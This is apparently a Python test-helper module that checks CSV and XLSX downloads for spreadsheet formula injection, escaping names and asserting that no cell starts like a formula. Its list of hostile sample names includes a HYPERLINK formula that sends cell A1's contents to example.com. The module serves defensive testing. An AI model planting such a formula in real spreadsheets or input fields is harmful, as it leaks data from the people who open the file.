"""Reading a downloaded CSV or XLSX as a spreadsheet would, and what every download must pass: no cell
is a formula and no text starts like one (a negative number is a number, not text)."""

import csv
import io
import re

import openpyxl
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

# Names someone could give a topic, a service, a center or a branch union: each a formula or the start
# of one, in the forms OWASP lists (= + - @, and a tab or carriage return before them).
HOSTILE_NAMES = (
    '=HYPERLINK("https://example.com/?leak="&A1,"Details")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = b"\xef\xbb\xbf"


def escaped(name: str) -> str:
    """A name as a download must show it: behind a single quote, as text."""
    return f"'{name}"


def read_csv(content: bytes, *, delimiter: str) -> list[list[str]]:
    """The rows of a CSV download, split on `delimiter`; it must start with the UTF-8 byte-order mark."""
    assert content.startswith(BOM), content[:20]
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


# A phone: "+" and digits among spaces, dashes and parentheses, nothing a spreadsheet could run.
PHONE = re.compile(r"\+[0-9 ()\-]{7,}")


def assert_csv_safe(rows: list[list[str]], *, decimal_sign: str) -> None:
    """No field starts like a formula, except a negative number written with the language's decimal
    sign and a phone."""
    negative = re.compile(rf"-\d+(?:{re.escape(decimal_sign)}\d+)?")
    unsafe = [
        field
        for row in rows
        for field in row
        if field.startswith(FORMULA_STARTS) and not negative.fullmatch(field) and not PHONE.fullmatch(field)
    ]
    assert unsafe == []


def read_xlsx(content: bytes) -> Workbook:
    return load_workbook(io.BytesIO(content))


def xlsx_texts(workbook: Workbook) -> set[str]:
    """Every text of every sheet (a carriage return reads back as written: see in_xlsx)."""
    return {
        cell.value
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def assert_xlsx_safe(workbook: Workbook) -> None:
    """No cell of any sheet is a formula, and no text starts like one (but a phone)."""
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = xlsx_texts(workbook)
    assert [
        text for text in texts if text.startswith((*FORMULA_STARTS, "\n")) and not PHONE.fullmatch(text)
    ] == []


def in_xlsx(name: str) -> str:
    """An escaped name as it reads back from an XLSX file. openpyxl writes through lxml when it is installed
    (docxtpl needs it), which keeps a carriage return as "&#13;"; its own writer leaves a bare one, which
    XML reads as a line feed."""
    return escaped(name) if openpyxl.LXML else escaped(name).replace("\r", "\n")
